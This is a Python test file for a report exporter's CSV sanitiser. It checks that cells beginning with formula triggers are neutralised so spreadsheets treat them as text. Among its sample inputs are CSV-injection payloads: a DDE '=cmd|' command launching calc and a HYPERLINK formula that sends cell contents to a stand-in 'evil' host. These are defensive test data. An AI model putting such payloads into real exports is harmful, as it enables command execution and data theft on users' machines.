"""S19: no cell of a CSV that we write is a formula to a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
import os
import subprocess
import sys
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from outbox.cluster import ROOT
from reports.tables import cell
from tests.reports.test_month import LONG_CAMPAIGN

TRIGGERS = "=+-@＝＋－＠"
FORMULAS = [
    "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＋1", "－1", "＠x",
    " =1", "\u00a0=1", "\u200b=1", '"=1', "'=1'", "−1",
    'spring;=HYPERLINK("http://evil?"&A1)', "a,=1", "a; =1", 'x";=1', "line\n=1", "a|@x", "a\t-1",
]  # fmt: skip
PLAIN = [
    "",
    "spring",
    "до-10",
    "a=b",
    "a+b",
    "1 - 2",
    "mail@example.org",
    "'quoted'",
    "x; y, z",
    "'",
]
NUMBERS = [-5, 5, Decimal("-1500.25"), -0.5, None, date(2026, 10, 1), timedelta(seconds=-1), True]


def begins(text: str) -> set[str]:
    """What a spreadsheet may see as the first sign of a cell, whatever it parts columns by."""
    cells = {text}
    for delimiter in ",;|\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
            cells |= {found for row in rows for found in row}
    return {found.strip(' \u00a0\u200b"\t\r\n')[:1] for found in cells if found.strip()}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    safe = str(cell(text))
    assert not begins(safe) & set(TRIGGERS)
    assert text[0] not in "\t\r\n" or safe[0] == "'"
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("value", NUMBERS, ids=str)
def test_numbers_and_times_stay_what_they_are(value: object) -> None:
    assert cell(value) is value


@given(st.text(st.sampled_from("=+-@\t\r\n;,|\"' ax1＝＋－＠"), max_size=12))
def test_no_text_begins_a_formula(text: str) -> None:
    assert not begins(str(cell(text))) & set(TRIGGERS)


def test_a_month_of_hostile_names_is_written_safely(dsn: str, tmp_path: Path) -> None:
    """The real command on a real month whose campaign has the name of the finding."""
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute((ROOT / "tests" / "reports" / "month.sql").read_bytes())
        conn.execute(LONG_CAMPAIGN)
        conn.execute("set session_replication_role = replica")
        conn.execute("update sms.campaign set campaign = '=cmd|''/c calc''!A;@x' || campaign_id")
    done = subprocess.run(
        [sys.executable, "-m", "cli", "report", "--month", "2026-10", "--csv", str(tmp_path)],
        env={**os.environ, "OUTBOX_DSN": dsn}, cwd=ROOT, capture_output=True, text=True,
        timeout=110, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    texts = [path.read_text(encoding="utf-8") for path in tmp_path.glob("*.csv")]
    cells = {found for text in texts for row in csv.reader(io.StringIO(text)) for found in row}
    assert any(found.startswith("'=cmd|") for found in cells)
    words = {found for found in cells if not found.lstrip("-").replace(".", "").isdigit()}
    assert not {first for found in words for first in begins(found)} & set(TRIGGERS)


def test_every_csv_is_written_by_the_one_that_looks_at_cells() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for package in ("bench", "cli", "demo", "dlr", "geo", "imports", "outbox", "planning",
                        "providers", "reports", "worker")
        for path in (ROOT / package).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv"}
        and ast.unparse(node).startswith(("csv.", "pandas."))
    ]  # fmt: skip
    assert writers == ["reports/tables.py"]
